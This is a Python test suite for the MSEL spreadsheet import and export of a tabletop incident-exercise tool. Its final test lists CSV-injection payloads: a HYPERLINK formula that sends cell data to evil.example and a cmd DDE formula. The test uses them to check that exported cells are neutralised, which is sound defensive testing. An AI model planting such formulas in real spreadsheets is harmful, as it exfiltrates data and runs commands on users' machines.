"""MSEL interchange: export then import gives the same injects, times and expectations; malformed rows are named by row and column."""

from __future__ import annotations

import csv
import io
from datetime import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from tabletop.cli import main
from tabletop.loader import load_scenario
from tabletop.msel import (
    COLUMNS,
    HSEEP_COLUMNS,
    MselError,
    build_msel,
    import_msel,
    read_msel,
    to_csv,
    to_xlsx,
)

ROOT = Path(__file__).resolve().parents[1]
SCENARIOS = sorted((ROOT / "scenarios").glob("*.yaml"))


def same_scenario(original, imported) -> None:
    injects = {i.id: i.model_dump(exclude={"use"}) for i in original.injects}
    again = {i.id: i.model_dump(exclude={"use"}) for i in imported.injects}
    assert injects == again
    expectations = {e.id: e.model_dump() for e in original.expectations}
    assert expectations == {e.id: e.model_dump() for e in imported.expectations}
    assert (original.duration, original.starts_at, original.roles) == (
        imported.duration,
        imported.starts_at,
        imported.roles,
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("path", SCENARIOS, ids=[p.stem for p in SCENARIOS])
def test_export_then_import_gives_the_same_injects_times_and_expectations(path, fmt, tmp_path):
    original = load_scenario(path)
    table = build_msel(original, path)
    sheet = tmp_path / f"{original.id}.{fmt}"
    if fmt == "csv":
        sheet.write_text(to_csv(table), encoding="utf-8")
    else:
        to_xlsx(table, sheet)
    written, problems = import_msel(sheet, tmp_path / "scenarios" / f"{original.id}.yaml")
    assert problems == []
    same_scenario(original, load_scenario(written))


def test_round_trip_with_another_seed_keeps_that_seeds_text(tmp_path):
    path = ROOT / "scenarios" / "restore-rehearsal.yaml"
    original = load_scenario(path, seed=4242)
    assert original.injects[0].body != load_scenario(path).injects[0].body
    sheet = tmp_path / "m.csv"
    sheet.write_text(to_csv(build_msel(original, path, seed=4242)), encoding="utf-8")
    written, problems = import_msel(sheet, tmp_path / "out.yaml")
    assert problems == []
    same_scenario(original, load_scenario(written))


def test_csv_has_the_hseep_columns_in_a_header_row():
    scenario = load_scenario(ROOT / "scenarios" / "region-failover.yaml")
    text = to_csv(build_msel(scenario, ROOT / "scenarios" / "region-failover.yaml"))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(COLUMNS)
    assert set(HSEEP_COLUMNS) <= set(rows[0])
    first = dict(zip(rows[0], rows[1], strict=False))
    assert first["Sequence"] == "1" and first["Time"] == "T+0m" and first["Delivery method"] == "alert"
    assert first["Clock"] == "day 1 10:05"
    branch = next(
        dict(zip(rows[0], r, strict=False)) for r in rows[1:] if len(r) > 14 and r[COLUMNS.index("Condition")]
    )
    # a cell starting with + is a formula to a spreadsheet: exported quoted, imported back as written
    assert branch["Inject type"] == "branch" and branch["Time"].startswith("'+")
    assert ["#tabletop-msel", "1"] in rows and any(r[:1] == ["#roles"] for r in rows)


# --- malformed rows --------------------------------------------------------------------------

HEADER = ",".join(COLUMNS)


def write_rows(tmp_path: Path, *rows: dict[str, str], frame: str = "") -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMNS)
    for row in rows:
        writer.writerow([row.get(c, "") for c in COLUMNS])
    path = tmp_path / "msel.csv"
    path.write_text(buffer.getvalue() + frame, encoding="utf-8")
    return path


GOOD = {
    "Time": "T+0m",
    "Inject ID": "start",
    "Delivery method": "email",
    "To": "coordinator",
    "Title": "Start",
    "Description": "It begins.",
}


@pytest.mark.parametrize(
    ("bad", "column", "words"),
    [
        ({"Time": "soonish"}, "Time", "expected a time like T+20m"),
        ({"Delivery method": "carrier pigeon"}, "Delivery method", "expected one of email, chat, phone"),
        ({"To": "cordinator"}, "To", "unknown role 'cordinator' (did you mean 'coordinator'?)"),
        ({"Expectations": "{id: x, action: involve_dpo"}, "Expectations", "line 1 is not readable"),
        ({"Expectations": "{id: x, action: involve_dpo}"}, "Expectations", "line 1: missing within"),
        ({"Expectations": "{id: x, action: involve_dpo, within: soon}"}, "Expectations", "within:"),
        ({"Condition": "sometimes: x"}, "Condition", "expected 'missed: EXPECTATION'"),
        ({"Time": "+10m"}, "Time", "relative, but the row has no Condition"),
        ({"Inject ID": "Start Here"}, "Inject ID", "expected lower-case letters"),
        ({"Advance to": "tomorrowish"}, "Advance to", "expected a time like"),
    ],
)
def test_a_malformed_row_is_reported_with_its_row_and_column(tmp_path, bad, column, words):
    path = write_rows(tmp_path, GOOD, {**GOOD, "Inject ID": "second", **bad})
    with pytest.raises(MselError) as caught:
        read_msel(path)
    messages = [p for p in caught.value.problems if f"row 3, column {column}:" in p]
    assert messages, caught.value.problems
    assert words in messages[0]
    assert messages[0].startswith(str(path.name)) or path.name in messages[0]


def test_every_malformed_row_is_reported_at_once(tmp_path):
    path = write_rows(
        tmp_path, {**GOOD, "Time": "nope"}, {**GOOD, "Inject ID": "b", "Delivery method": "fax"}
    )
    with pytest.raises(MselError) as caught:
        read_msel(path)
    assert any("row 2, column Time" in p for p in caught.value.problems)
    assert any("row 3, column Delivery method" in p for p in caught.value.problems)


def test_duplicate_inject_ids_name_both_rows(tmp_path):
    path = write_rows(tmp_path, GOOD, GOOD)
    with pytest.raises(MselError) as caught:
        read_msel(path)
    assert caught.value.problems == [
        f"{caught.value.problems[0].split(':')[0]}: row 3, column Inject ID: id 'start' is already used on row 2; ids must be unique"
    ]


def test_a_scenario_problem_is_pointed_back_at_its_row_and_nothing_is_written(tmp_path):
    path = write_rows(
        tmp_path,
        GOOD,
        {
            **GOOD,
            "Inject ID": "two",
            "Time": "T+5m",
            "Expectations": "{id: dpo, action: involve_dpp, within: 30m}",
        },
    )
    out = tmp_path / "scenarios" / "x.yaml"
    _written, problems = import_msel(path, out)
    assert not out.exists()
    assert len(problems) == 1
    assert "row 3, column Expectations" in problems[0] and "involve_dpp" in problems[0]


def test_a_broken_frame_row_is_reported_with_its_row(tmp_path):
    path = write_rows(tmp_path, GOOD, frame='#roles,"[coordinator, "\n#colour,blue\n')
    with pytest.raises(MselError) as caught:
        read_msel(path)
    assert any("row 3, column B" in p and "#roles is not readable YAML" in p for p in caught.value.problems)
    assert any("row 4, column A" in p and "unknown scenario key 'colour'" in p for p in caught.value.problems)


def test_a_malformed_xlsx_cell_is_reported_with_its_row_and_column(tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "MSEL"
    sheet.append(list(COLUMNS))
    sheet.append([GOOD.get(c, "") for c in COLUMNS])
    sheet.append(
        [
            {**GOOD, "Inject ID": "late", "Time": "", "Clock": time(25 % 24, 61 % 60)}.get(c, "")
            for c in COLUMNS
        ]
    )
    sheet.append([{**GOOD, "Inject ID": "bad", "Time": "whenever"}.get(c, "") for c in COLUMNS])
    path = tmp_path / "m.xlsx"
    workbook.save(path)
    with pytest.raises(MselError) as caught:
        read_msel(path)
    # row 3's Clock cell is a spreadsheet time (01:01) and needs the scenario's starts_at
    assert any(
        "row 3, column Clock" in p and "needs the scenario's starts_at" in p for p in caught.value.problems
    )
    assert any("row 4, column Time" in p for p in caught.value.problems)


# --- a facilitator's own spreadsheet ---------------------------------------------------------


def test_a_facilitators_own_msel_imports_as_a_valid_skeleton(tmp_path):
    rows = [
        [
            "Seq",
            "Time",
            "Inject type",
            "Channel",
            "From",
            "To",
            "Description",
            "Expected player action",
            "Objective",
            "Controller",
            "Status",
        ],
        [
            "1",
            "T+0m",
            "Contextual",
            "E-mail",
            "Service desk",
            "Incident coordinator",
            "Customers report they cannot log in.",
            "Declare an incident",
            "Detection",
            "Lead",
            "done",
        ],
        [
            "2",
            "45m",
            "Expected action",
            "Phone call",
            "CEO",
            "coordinator; comms_owner",
            "The CEO wants one line for the board.",
            "Brief the executive",
            "Communications",
            "Lead",
            "",
        ],
    ]
    path = tmp_path / "Our Exercise.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    out = tmp_path / "scenarios" / "our-exercise.yaml"
    written, problems = import_msel(path, out)
    assert problems == []
    scenario = load_scenario(written)
    assert scenario.id == "our-exercise"
    assert [i.at for i in scenario.injects] == [0, 2700]
    assert [i.channel for i in scenario.injects] == ["email", "phone"]
    assert scenario.injects[1].to == ["coordinator", "comms_owner"]
    assert "Expected player action: Brief the executive" in scenario.injects[1].notes
    assert set(scenario.roles) == {"coordinator", "comms_owner"}


# --- the command line ------------------------------------------------------------------------


def test_cli_export_csv_to_stdout_and_xlsx_to_a_file(tmp_path):
    runner = CliRunner()
    result = runner.invoke(main, ["msel", "export", str(ROOT / "scenarios" / "post-mortem-rehearsal.yaml")])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == ",".join(COLUMNS)
    target = tmp_path / "pm.xlsx"
    result = runner.invoke(main, ["msel", "export", "post-mortem-rehearsal", "--xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    from openpyxl import load_workbook

    workbook = load_workbook(target)
    assert workbook.sheetnames == ["MSEL", "Scenario"]
    assert [c.value for c in workbook["MSEL"][1]] == list(COLUMNS)
    assert workbook["MSEL"].max_row == 1 + len(
        load_scenario(ROOT / "scenarios" / "post-mortem-rehearsal.yaml").injects
    )


def test_cli_import_reports_rows_and_exits_1_without_a_traceback(tmp_path):
    path = write_rows(tmp_path, {**GOOD, "Time": "later"})
    result = CliRunner().invoke(main, ["msel", "import", str(path), "-o", str(tmp_path / "x.yaml")])
    assert result.exit_code == 1
    assert "row 2, column Time" in result.output
    assert "nothing written" in result.output
    assert "Traceback" not in result.output and not (tmp_path / "x.yaml").exists()


def test_cli_import_round_trip_and_refuses_to_overwrite(tmp_path):
    runner = CliRunner()
    sheet = tmp_path / "dsr.csv"
    result = runner.invoke(main, ["msel", "export", "data-subject-request", "-o", str(sheet)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "scenarios" / "dsr.yaml"
    result = runner.invoke(main, ["msel", "import", str(sheet), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "13 injects" in result.output
    same_scenario(load_scenario(ROOT / "scenarios" / "data-subject-request.yaml"), load_scenario(out))
    again = runner.invoke(main, ["msel", "import", str(sheet), "-o", str(out)])
    assert again.exit_code == 1 and "exists" in again.output


def test_cli_import_of_a_missing_or_foreign_file(tmp_path):
    runner = CliRunner()
    result = runner.invoke(
        main, ["msel", "import", str(tmp_path / "nope.csv"), "-o", str(tmp_path / "x.yaml")]
    )
    assert result.exit_code == 1 and "no such file" in result.output
    odd = tmp_path / "m.pdf"
    odd.write_text("%PDF")
    result = runner.invoke(main, ["msel", "import", str(odd), "-o", str(tmp_path / "x.yaml")])
    assert result.exit_code == 1 and "expected a .csv or .xlsx file" in result.output


def test_a_semicolon_separated_export_from_a_spreadsheet_reads_too(tmp_path):
    path = tmp_path / "eu.csv"
    path.write_text(
        "Time;Inject ID;Delivery method;To;Title;Description\n"
        "T+0m;start;email;coordinator;Start;It begins; really.\n"
        'T+10m;next;chat;all;Next;"Then, this"\n',
        encoding="utf-8",
    )
    data = read_msel(path)
    assert [i["id"] for i in data["injects"]] == ["start", "next"]
    assert data["injects"][1]["body"] == "Then, this"


def test_blank_and_unmapped_rows_do_not_shift_the_row_numbers_of_problems(tmp_path):
    rows = [
        [*list(COLUMNS), "Status"],
        [""] * (len(COLUMNS)) + ["draft"],
        [GOOD.get(c, "") for c in COLUMNS] + [""],
        [],
        [
            {**GOOD, "Inject ID": "two", "Expectations": "{id: e, action: nonesuch, within: 5m}"}.get(c, "")
            for c in COLUMNS
        ],
    ]
    path = tmp_path / "gaps.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    _, problems = import_msel(path, tmp_path / "gaps.yaml")
    assert len(problems) == 1 and "row 5, column Expectations" in problems[0] and "nonesuch" in problems[0]


def test_random_cells_only_ever_give_problems_never_another_exception(tmp_path_factory):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    cell = st.one_of(
        st.sampled_from(
            [
                "",
                "T+5m",
                "+10m",
                "09:30",
                "day 2 08:00",
                "missed: x",
                "done: contain",
                "email",
                "all",
                "coordinator",
                "{id: a, action: contain, within: 5m}",
                "{id: b",
                "dsr_received",
                "#roles",
                "x" * 3,
            ]
        ),
        st.text(max_size=12),
    )
    row = st.lists(cell, min_size=0, max_size=len(COLUMNS) + 2)

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(st.lists(row, min_size=0, max_size=5), st.binary(max_size=20))
    def check(rows, junk):
        folder = tmp_path_factory.mktemp("fuzz")
        path = folder / "f.csv"
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        writer.writerow(COLUMNS)
        writer.writerows(rows)
        path.write_bytes(buffer.getvalue().encode("utf-8") + junk)
        try:
            data = read_msel(path)
        except MselError as error:
            assert error.problems and all(isinstance(p, str) for p in error.problems)
        else:
            assert data["injects"]

    check()


def test_an_imported_msel_without_a_duration_covers_its_time_jumps(tmp_path):
    path = write_rows(tmp_path, GOOD, {**GOOD, "Inject ID": "jump", "Time": "T+1h", "Advance to": "T+20h"})
    written, problems = import_msel(path, tmp_path / "j.yaml")
    assert problems == []
    assert load_scenario(written).duration == 21 * 3600


def test_formula_cells_are_quoted_on_export_and_given_back_exactly_on_import(tmp_path):
    """OWASP CSV injection: a cell a spreadsheet would run is quoted; the round trip is exact."""
    import openpyxl

    from tabletop.msel import Msel, MselRow, read_msel, to_csv, to_xlsx

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tindented",
        "\rcarriage",
        "line one\r\nline two",
        "a literal _x000D_ stays literal",
        "'=already quoted",
        "'plain apostrophe",
    ]
    rows = tuple(
        MselRow({"Time": f"T+{n}m", "Inject ID": f"i{n}", "Title": text, "Description": text, "To": "all"})
        for n, text in enumerate(hostile)
    )
    table = Msel(rows=rows, frame={"id": "x", "title": "=1+1", "roles": ["coordinator"], "duration": "4h"})
    csv_text = to_csv(table)
    for line in csv_text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "-", "@")), line
    csv_path = tmp_path / "m.csv"
    csv_path.write_text(csv_text, newline="")
    xlsx_path = tmp_path / "m.xlsx"
    xlsx_path.write_bytes(to_xlsx(table))
    workbook = openpyxl.load_workbook(xlsx_path)
    assert all(
        cell.data_type == "s" for row in workbook["MSEL"].iter_rows(min_row=2) for cell in row if cell.value
    ), "no cell is a formula"
    for path, expected in ((csv_path, hostile), (xlsx_path, hostile)):
        # both keep every character: a workbook stores a CR as _x000D_, as Excel does
        data = read_msel(path, roles=[("coordinator", "Coordinator")])
        assert data["title"] == "=1+1"
        assert [i["title"] for i in data["injects"]] == [t.strip() for t in expected]
        assert [i["body"] for i in data["injects"]] == expected
